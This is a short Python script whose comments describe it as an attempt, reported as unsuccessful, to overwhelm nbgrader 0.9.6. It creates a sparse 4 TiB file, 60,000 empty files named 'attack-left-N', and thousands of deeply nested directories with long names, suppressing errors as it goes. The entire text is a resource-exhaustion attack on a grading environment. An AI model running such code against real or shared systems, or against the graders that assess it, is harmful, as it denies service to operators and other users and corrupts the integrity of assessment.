# tries: files and folders without number, and one that is larger than the disk
# worked: no (nbgrader 0.9.6 in one process)
import os

try:
    open("attack-left-big", "wb").truncate(1 << 42)
except OSError:
    pass
try:
    for number in range(60_000):
        open(f"attack-left-{number}", "w").close()
except OSError:
    pass
try:
    for _ in range(3_000):
        os.mkdir("x" * 200)
        os.chdir("x" * 200)
except OSError:
    pass
